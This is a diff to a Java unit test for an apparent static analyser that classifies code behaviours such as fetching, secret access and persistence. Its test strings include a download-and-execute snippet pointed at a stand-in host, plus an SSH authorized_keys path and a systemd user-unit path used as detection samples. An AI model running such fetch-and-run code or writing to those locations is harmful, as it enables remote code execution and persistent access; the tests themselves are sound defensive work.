@@ -92,7 +92,7 @@ class ClassFileReaderTest {
     runs(
         "/tmp/inert",
         Set.of(FETCH),
-        "Files.copy(new URL(\"http://192.0.2.7/a\").openStream(), Paths.get(\"/tmp/inert\"));"
+        "Files.copy(new URL(\"http://a.example/a\").openStream(), Paths.get(\"/tmp/inert\"));"
             + "Runtime.getRuntime().exec(\"/tmp/inert\");");
     assertThat(
             facts(
@@ -149,6 +149,20 @@ class ClassFileReaderTest {
           assertThat(fact.unit()).isEqualTo("Sample.m");
           assertThat(fact.inputs()).containsExactly(DECODE);
         });
+  }
+
+  @Test
+  void namingAPlaceIsNotYetUsingIt() {
+    String path = "\"/home/a/.ssh/authorized_keys\"";
+    assertThat(facts("String s = " + path + ";")).extracting(Fact::behaviour).containsOnly(SECRET);
+    assertThat(facts("new URL(\"http://192.0.2.7/a\");"))
+        .extracting(Fact::detail)
+        .containsExactly("raw-ip");
+    String unit = "\"/home/a/.config/systemd/user/x.service\"";
+    assertThat(facts("String s = " + unit + ";")).isEmpty();
+    assertThat(facts("new FileOutputStream(" + unit + ");"))
+        .extracting(Fact::behaviour)
+        .containsExactly(WRITE, PERSIST);
   }
 
   @Test
